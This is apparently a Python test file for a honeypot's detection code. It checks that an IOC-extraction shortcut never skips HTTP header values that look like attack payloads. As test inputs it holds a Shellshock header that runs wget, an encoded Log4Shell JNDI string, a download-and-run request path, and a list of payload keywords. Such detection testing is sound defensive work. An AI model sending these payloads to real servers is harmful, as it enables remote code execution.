"""Header values are mined for IOCs only where one may look like a payload: the shortcut that skips
building them (iocs._what_to_extract) never skips a value that looks like one, on raw requests and
on requests as the sensor records them, folded, escaped or CR-ridden headers included."""

from __future__ import annotations

import sys

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from honeyguard.detect import raw_http_subject
from honeyguard.detect.fields import HttpSubject, Subject, event_subject, looks_like_payload
from honeyguard.detect.iocs import subjects_iocs
from honeyguard.model import HttpRequest
from tests.detect._support import http_event

package = sys.modules["honeyguard.detect.iocs"]

_WORDS = [
    b"wget",
    b"CURL",
    b"/dev/",
    b"base64",
    b"jndi",
    b"${",
    b"$(",
    b"`",
    b"|",
    b"<?",
    b"() {",
    b"()\r\n {",
    b"%60",
    b"%7C",
    b"%24%7B",
    b"%2524%257B",
    b"$",
    b"(",
    b")",
    b"{",
    b"%",
    b"<",
    b"?",
    b"\r",
    b"\n ",
    b"\n\t",
    b" ",
    b"x",
    b"http://198.51.100.7/a",
    b"${lower:j}",
    b"cu",
    b"rl",
]
_value = st.lists(st.sampled_from(_WORDS), max_size=8).map(b"".join)
_name = st.sampled_from([b"User-Agent", b"Referer", b"Cookie", b"X-Api-Version", b"Host", b"X"])
_headers = st.lists(st.tuples(_name, _value), max_size=5)
_target = st.sampled_from([b"/", b"/index.html?page=1", b"/shell?cd+/tmp;wget+http://198.51.100.7/j;sh+j", b"/?a=%60"])


def _raw(target: bytes, headers: list[tuple[bytes, bytes]]) -> bytes:
    lines = b"".join(name + b": " + value + b"\r\n" for name, value in headers)
    return b"GET " + target + b" HTTP/1.1\r\n" + lines + b"\r\n"


def _recorded(target: bytes, headers: list[tuple[bytes, bytes]]) -> Subject:
    text = [(n.decode("latin-1"), v.decode("latin-1")) for n, v in headers]
    event = http_event(HttpRequest(method="GET", target=target.decode("latin-1"), version="HTTP/1.1", headers=text))
    subject = event_subject(event)
    assert subject is not None
    return subject


def _subjects(target: bytes, headers: list[tuple[bytes, bytes]]) -> list[Subject]:
    return [raw_http_subject(_raw(target, headers)), _recorded(target, headers)]


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_target, _headers)
def test_values_are_skipped_only_where_none_looks_like_a_payload(
    target: bytes, headers: list[tuple[bytes, bytes]]
) -> None:
    for subject in _subjects(target, headers):
        assert isinstance(subject, HttpSubject)
        if package._what_to_extract(subject) is False:
            assert not any(looks_like_payload(value) for value in subject.header_values)


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(_target, _headers)
def test_the_shortcut_changes_no_ioc(
    monkeypatch: pytest.MonkeyPatch, target: bytes, headers: list[tuple[bytes, bytes]]
) -> None:
    found = subjects_iocs(_subjects(target, headers))
    shortcut = package._what_to_extract

    def every_value(subject: HttpSubject) -> bool | None:  # the values built whenever anything can be found
        return None if shortcut(subject) is None else True

    with monkeypatch.context() as patch:
        patch.setattr(package, "_what_to_extract", every_value)
        assert subjects_iocs(_subjects(target, headers)) == found


def test_a_payload_in_a_header_is_still_found() -> None:
    raw = _raw(b"/", [(b"User-Agent", b"() { :;}; /bin/bash -c 'wget http://198.51.100.9/x'")])
    assert package._what_to_extract(raw_http_subject(raw)) is True
    found = [(i.type, i.value, i.role) for i in subjects_iocs([raw_http_subject(raw)])[0]]
    assert ("url", "http://198.51.100.9/x", "download") in found
    encoded = _raw(b"/", [(b"Cookie", b"a=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D")])
    assert package._what_to_extract(raw_http_subject(encoded)) is True  # (a '%': the values are built)
    plain = _raw(b"/shell?wget+http://198.51.100.7/j", [(b"User-Agent", b"Mozilla/5.0")])
    assert package._what_to_extract(raw_http_subject(plain)) is False


_host_value = st.sampled_from([b"", b" ", b"\t", b"a", b" victim.example ", b"198.51.100.7:8080", b"[::1]:80"])
_host_name = st.sampled_from([b"Host", b"host", b"HOST", b"Hosts", b"X-Host", b"Ho\nst"])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_target, st.lists(st.one_of(st.tuples(_host_name, _host_value), st.tuples(_name, _value)), max_size=5))
def test_the_own_host_is_found_without_building_the_header_fields(
    target: bytes, headers: list[tuple[bytes, bytes]]
) -> None:
    # what extraction leaves out (first_host) is what the header fields say the Host is, repeated
    # or blank Hosts included, asked before the fields exist and after
    for subject in _subjects(target, headers):
        assert isinstance(subject, HttpSubject)
        early = subject.first_host()
        assert early == subject.host == subject.first_host()
